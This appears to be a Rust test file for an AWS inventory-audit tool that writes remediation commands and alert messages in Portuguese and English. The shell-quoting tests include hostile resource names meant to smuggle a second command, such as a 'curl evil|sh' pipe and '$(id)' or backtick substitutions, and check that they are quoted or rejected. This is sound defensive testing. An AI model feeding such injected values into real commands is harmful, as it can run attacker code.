use std::collections::BTreeSet;

use shared::audit::course::News;
use shared::audit::findings::Changes;
use shared::audit::first_week::{FirstWeek, Held, Quiet};
use shared::command;
use shared::policy::{Area, Responsible, oncall};
use shared::runtime::language::Language;
use shared::runtime::settings::Settings;

use super::sentence::sentence;
use super::step::{import, next_step, terraform};
use super::summary::MOST_LINES;
use super::*;
use crate::rules::row::{Problem, Row, Verdict};
use crate::rules::settings::Setting;
use crate::rules::state::{Place, Value};

fn settings(language: Language) -> Settings {
    shared::testing::settings("moveongs-dev-inventory-audit", language)
}

fn row(kind: &str, name: &str, problems: Vec<Problem>) -> Row {
    Row {
        area: Some(Area::Database),
        kind: kind.to_owned(),
        name: name.to_owned(),
        arn: format!("arn:aws:x:{name}"),
        responsible: Responsible { primary: "Squad Dados".to_owned(), backup: "Squad Infra".to_owned() },
        exists: Verdict::Pass,
        tags: Verdict::Pass,
        state: Verdict::Pass,
        settings: Verdict::NotAsked,
        import: (kind == "rds-instance").then(|| ("aws_db_instance", name.to_owned())),
        problems,
    }
}

fn place(file: &str, address: &str) -> Place {
    Place { file: file.into(), address: address.to_owned() }
}

fn on_call(kind: oncall::Kind) -> Problem {
    let at = |text: &str| text.parse().unwrap();
    Problem::OnCall { kind, from: at("2026-12-01T12:00:00Z"), until: at("2026-12-05T12:00:00Z"), more: 2 }
}

fn held(kind: &str, attributes: &[&str], is_data: bool, rotates: Option<bool>) -> Problem {
    let value = Value {
        place: place("k", "module.a[\"b\"].x"),
        kind: kind.to_owned(),
        attributes: attributes.iter().map(|name| (*name).to_owned()).collect(),
        is_data,
        arn: Some("arn:aws:x:moveongs-dev-db".to_owned()),
        rotates: None,
    };
    Problem::ValueInState { value, rotates }
}

#[test]
fn a_value_that_a_rotation_replaces_is_of_high_severity() {
    let sentence = |problem: &Problem| sentence(problem, Language::Portuguese);
    let version = "aws_secretsmanager_secret_version";
    let high = sentence(&held(version, &["secret_string"], false, Some(true)));
    assert!(high.contains("gravidade alta") && high.contains("põe o valor antigo de volta"), "{high}");
    for problem in [
        held(version, &["secret_string"], false, Some(false)),
        held(version, &["secret_string"], true, Some(true)),
        held("random_password", &["result"], false, None),
    ] {
        assert!(!sentence(&problem).contains("alta"));
    }
    let drift = Problem::Drift {
        setting: Setting::TaskDefinition,
        found: "api:8".to_owned(),
        expected: "api:7".to_owned(),
        place: place("k", "aws_ecs_service.api"),
    };
    assert!(sentence(&drift).contains("gravidade baixa"), "{}", sentence(&drift));
}

#[test]
fn a_word_of_a_command_is_one_word_for_a_shell() {
    for (word, expected) in [
        ("aws_db_instance.db", Some("aws_db_instance.db")),
        ("a[\"one\"]", Some("'a[\"one\"]'")),
        ("a[0]", Some("'a[0]'")),
        ("it's", Some("'it'\\''s'")),
        ("$(id); x\\", Some("'$(id); x\\'")),
        ("", Some("''")),
        ("a`id`", None),
        ("a\nb", None),
    ] {
        let expected = expected.map_or_else(
            || "`terraform state` by hand: a message cannot carry some characters of the address".to_owned(),
            |word| format!("`terraform state rm {word}`"),
        );
        assert_eq!(terraform(&command!("state rm "), word, Language::English), expected);
    }
}

#[test]
fn every_finding_has_a_command_or_a_field_in_both_languages() {
    let why = || "s3:GetObject failed (AccessDenied): x".to_owned();
    let row = row("rds-instance", "moveongs-dev-db", Vec::new());
    for (problem, expected) in [
        (Problem::NothingRead, "aws lambda invoke --function-name moveongs-dev-inventory-audit"),
        (Problem::Missing { is_in_state: Some(true) }, "terraform apply"),
        (Problem::Missing { is_in_state: Some(false) }, "inventory.areas.database.resources.rds-instance"),
        (Problem::Missing { is_in_state: None }, "terraform apply"),
        (Problem::InsufficientData { why: why() }, "aws lambda invoke"),
        (Problem::StateUndeclared, "TerraformStateBucketName"),
        (Problem::StateUnreadable { why: why() }, "TerraformStateKey"),
        (Problem::ListUnread { why: why() }, "aws lambda invoke"),
        (
            Problem::TagsMissing { tags: vec![("Environment", Some("dev".to_owned())), ("ManagedBy", None)] },
            "tag-resources --resource-arn-list arn:aws:x:moveongs-dev-db --tags Environment=dev,ManagedBy=terraform`",
        ),
        (Problem::NotInState, "terraform import aws_db_instance.NOME moveongs-dev-db`"),
        (Problem::NotInInventory, "resources.rds-instance"),
        (
            held("aws_secretsmanager_secret_version", &["secret_string"], false, None),
            "terraform state rm 'module.a[\"b\"].x'",
        ),
        (
            held("aws_secretsmanager_secret_version", &["secret_string"], false, Some(true)),
            "aws secretsmanager rotate-secret --secret-id arn:aws:x:moveongs-dev-db",
        ),
        (held("aws_secretsmanager_secret_version", &["secret_string"], true, Some(true)), "ephemeral"),
        (held("aws_db_instance", &["password"], false, None), "password_wo_version"),
        (held("aws_elasticache_replication_group", &["auth_token"], false, None), "ignore_changes"),
        (held("output", &["value"], false, None), "terraform apply"),
        (
            Problem::InTwoStates { places: [place("a", "x.y"), place("b", "x.z")].into() },
            "`terraform state rm x.z`",
        ),
        (
            Problem::Drift {
                setting: Setting::BackupRetention,
                found: "1".to_owned(),
                expected: "7".to_owned(),
                place: place("k", "module.db.aws_db_instance.this[\"one\"]"),
            },
            "`terraform plan -target='module.db.aws_db_instance.this[\"one\"]'`",
        ),
        (
            Problem::Drift {
                setting: Setting::TaskDefinition,
                found: "api:8".to_owned(),
                expected: "api:7".to_owned(),
                place: place("k", "aws_ecs_service.api"),
            },
            "ignore_changes = [task_definition]",
        ),
        (on_call(oncall::Kind::PersonUnreachable), "incidents.people (`cargo xtask policy apply`"),
        (on_call(oncall::Kind::PhoneUnverified), "phone_verified"),
        (on_call(oncall::Kind::RotationGap), "incidents.squads"),
        (on_call(oncall::Kind::SquadUnreachable), "contacts"),
        (on_call(oncall::Kind::SquadUnknown), "incidents.squads"),
        (Problem::RunbookMissing { alarms: "`a`".to_owned() }, "`runbook_url`"),
        (Problem::RunbookUnchecked { alarms: "`a`".to_owned(), why: why() }, "aws lambda invoke"),
        (Problem::OneTeam, "rotation.secrets.….responsible.backup"),
        (Problem::EmptyArea, "inventory.areas.database.resources"),
    ] {
        let mut sentences = BTreeSet::new();
        for language in [Language::Portuguese, Language::English] {
            let next = next_step(&settings(language), &row, &problem);
            assert!(next.contains(expected), "{problem:?}: {next}");
            sentences.insert(sentence(&problem, language));
        }
        assert_eq!(sentences.len(), 2, "{problem:?}");
        assert_eq!(shared::audit::findings::key_of(&line(&row, &problem)), row.key(&problem));
    }
}

#[test]
fn a_gap_says_from_when_to_when_and_how_many_more_there_are() {
    let said = sentence(&on_call(oncall::Kind::RotationGap), Language::Portuguese);
    assert_eq!(said, "ninguém de plantão de 2026-12-01 09:00:00 -03:00 a 2026-12-05 09:00:00 -03:00 (+2)");
}

#[test]
fn a_secret_is_imported_by_its_arn_and_another_kind_is_looked_up() {
    let secret = Row {
        import: Some(("aws_secretsmanager_secret", "arn:aws:x:x".to_owned())),
        ..row("secret", "x", vec![])
    };
    assert_eq!(
        import(&secret, Language::English),
        "`terraform import aws_secretsmanager_secret.NOME arn:aws:x:x`"
    );
    assert!(
        import(&row("sns:topic", "x", vec![]), Language::English)
            .contains("get-resources --resource-arn-list arn:aws:x:x`")
    );
    for (foreign, word) in [
        ("x'; curl evil|sh", r"'arn:aws:x:x'\''; curl evil|sh'"),
        ("x $(id)", "'arn:aws:x:x $(id)'"),
        ("é", "'arn:aws:x:é'"),
    ] {
        let command = import(&row("cloudwatch:alarm", foreign, vec![]), Language::English);
        assert!(command.ends_with(&format!(" --resource-arn-list {word}`")), "{command}");
    }
    for foreign in ["x`id`", "x\ny"] {
        let command = import(&row("cloudwatch:alarm", foreign, vec![]), Language::English);
        assert!(command.contains("in the console") && !command.contains(foreign), "{command}");
    }
    let area = row("area", "database", vec![]);
    let next = next_step(&settings(Language::English), &area, &Problem::OneTeam);
    assert!(next.contains("inventory.areas.database.responsible.backup"), "{next}");
}

#[test]
fn a_page_names_both_teams_and_the_next_step() {
    let missing = Problem::Missing { is_in_state: None };
    let page =
        page(&settings(Language::Portuguese), &row("rds-instance", "moveongs-dev-db", vec![]), &missing);
    assert_eq!(page.subject, "[dev] Missing: rds-instance moveongs-dev-db");
    assert_eq!(page.dedup_key, "inventory-audit/rds-instance/moveongs-dev-db/Missing");
    for part in ["Responsável: Squad Dados, backup: Squad Infra.", "Próximo passo: criar no Terraform"] {
        assert!(page.text.contains(part), "{}", page.text);
    }
}

#[test]
fn the_message_lists_new_findings_and_once_a_week_all() {
    let rows: Vec<_> = (0..12)
        .map(|number| row("s3-bucket", &format!("b{number:02}"), vec![Problem::NotInInventory]))
        .chain([row("tagged-resources", "x", vec![Problem::ListUnread { why: "y".to_owned() }])])
        .collect();
    let keys = |keys: &[&str]| keys.iter().map(|key| (*key).to_owned()).collect::<BTreeSet<_>>();
    let changes = Changes {
        new: keys(&["NotInInventory s3-bucket b03"]),
        resolved: keys(&["Missing rds-instance moveongs-dev-db"]),
    };
    let message_of = |is_weekly| {
        let news = News { run_id: "2026-03-02", changes: &changes, is_weekly, unread: None, quiet: None };
        summary(&settings(Language::Portuguese), &rows, &news)
    };
    let message = message_of(false);
    assert_eq!(message.title(), "Inventário: 12 achado(s), 1 não verificado(s) (dev)");
    assert_eq!(message.lines().len(), 3, "{:?}", message.lines());
    assert!(
        message.lines()[0].starts_with("*NotInInventory* `s3-bucket b03`: tem as tags"),
        "{:?}",
        message.lines()
    );
    assert_eq!(message.lines()[1], "Continuam 12: `inventory/inventory.csv`.");
    assert_eq!(message.lines()[2], "Resolvido: Missing rds-instance moveongs-dev-db.");
    let message = message_of(true);
    assert!(message.title().starts_with("Inventário, resumo da semana"), "{}", message.title());
    assert_eq!(message.lines().len(), MOST_LINES + 2);
    assert_eq!(message.lines()[MOST_LINES], "E mais 5: `inventory/inventory.csv`.");
    let changes = Changes::default();
    let news = News { run_id: "x", changes: &changes, is_weekly: true, unread: None, quiet: None };
    let message = summary(&settings(Language::English), &[], &news);
    assert_eq!(message.lines().len(), 1);
    assert!(message.lines()[0].starts_with("Every resource"), "{:?}", message.lines());
}

#[test]
fn the_first_message_of_the_first_week_lists_the_most_urgent_findings_first() {
    let rows: Vec<_> = (0..12)
        .map(|number| {
            let name = format!("b{number:02}");
            let import = Some(("aws_s3_bucket", name.clone()));
            Row { import, ..row("s3-bucket", &name, vec![Problem::NotInState]) }
        })
        .chain([row("rds-instance", "moveongs-dev-db", vec![Problem::Missing { is_in_state: None }])])
        .collect();
    let week = FirstWeek { until: "2026-03-08T12:00:00Z".parse().unwrap(), is_first_day: true };
    let message_of = |is_summary| {
        let news = News {
            run_id: "2026-03-02",
            changes: &Changes::default(),
            is_weekly: false,
            unread: None,
            quiet: Some(Quiet { week, held: Held { pages: 1, tasks: 0 }, is_summary, place: "s3://b/x.csv" }),
        };
        summary(&settings(Language::Portuguese), &rows, &news).lines().to_vec()
    };
    let lines = message_of(true);
    assert!(lines[0].contains("até 2026-03-08 09:00:00 -03:00") && lines[0].contains("s3://b/x.csv"));
    assert_eq!(lines[1], "*Por regra*: Missing 1; NotInState 12.");
    assert!(lines[3].starts_with("1. *Missing* `rds-instance moveongs-dev-db`: não existe"), "{lines:?}");
    assert!(lines[4].starts_with("2. *NotInState* (12): existe na AWS"), "{lines:?}");
    assert!(lines[4].contains("terraform import aws_s3_bucket.NOME NOME"), "{lines:?}");
    assert_eq!(lines.len(), 5, "{lines:?}");
    let lines = message_of(false);
    assert!(lines[0].starts_with("*Primeira semana*") && lines[1].starts_with("Continuam 13"), "{lines:?}");
}
